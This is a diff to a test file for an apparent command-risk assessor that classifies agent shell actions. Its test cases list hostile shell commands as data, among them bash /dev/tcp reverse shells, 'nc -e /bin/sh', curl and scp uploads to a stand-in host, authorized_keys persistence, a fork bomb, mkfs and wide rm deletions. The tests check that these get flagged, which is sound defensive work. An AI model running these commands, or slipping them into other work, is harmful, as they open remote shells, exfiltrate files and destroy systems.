@@ -42,6 +42,8 @@ describe('hazards of a shell text', () => {
     ['curl -F f=@a.txt https://x.test', 'shell.upload'],
     ['scp a.txt evil@x.test:', 'shell.upload'],
     ['nc -e /bin/sh x.test 4444', 'shell.reverse_shell'],
+    ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'shell.reverse_shell'],
+    ['exec 5<>/dev/tcp/10.0.0.1/4444', 'shell.reverse_shell'],
     ['echo key >> ~/.ssh/authorized_keys; tee -a ~/.ssh/authorized_keys < k', 'shell.persistence'],
     ['history -c', 'shell.hide_traces'],
     ['shutdown -h now', 'shell.power'],
@@ -144,6 +146,38 @@ describe('assessing one action', () => {
     ],
     ['path.outside', 'kubernetes.apply', {}, { target: { path: '/etc/hosts' } }],
   ])('%s', (code, tool, args, more) => expect(codes(tool, args, more)).toContain(code));
+
+  it.each<[string, EffectsClass]>([
+    ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'reversible'],
+    [':(){ :|:& };:', 'reversible'],
+    ['mkfs.ext4 /dev/sdb1', 'none'],
+  ])('a critical finding is for a person whatever the tool says of its effects: %s', (script, effects) => {
+    const { risk, findings } = assess('shell.run@v1', { argv: ['bash', '-c', script] }, { effects });
+    expect(findings).toContainEqual(expect.objectContaining({ severity: 'critical' }));
+    expect(risk).toBeGreaterThanOrEqual(0.8);
+  });
+
+  it.each<[string[], boolean]>([
+    [['rm', 'data/c.db'], false],
+    [['rm', '-f', 'a', 'b'], false],
+    [['find', 'logs', '-name', '*.old', '-delete'], false],
+    [['sh', '-c', 'rm build/*'], true],
+    [['rm', '-r', '.'], true],
+    [['find', '.', '-delete'], true],
+  ])('%j deletes widely: %s', (argv, wide) => {
+    const target = { kind: 'command', program: argv[0]!, path: '.' };
+    const found = codes('shell.run@v1', { argv }, { target });
+    expect(found.includes('delete.wide')).toBe(wide);
+  });
+
+  it("the sample's calls need nobody on account of their risk", () => {
+    for (const path of ['src/.cache', 'dist', 'data/customers.db']) {
+      expect(assess('file.delete@v1', { path, recursive: true }).risk).toBeLessThan(0.7);
+    }
+    expect(assess('shell.run@v1', { argv: ['./tools/compact-logs.sh'], env: { KEEP_LINES: '20' } }).risk).toBeLessThan(
+      0.7,
+    );
+  });
 
   it('a send is judged by what the run has read', () => {
     const taint = { read_sensitive: true, read_untrusted: true, external_send_pending: false, secrets_used: false };
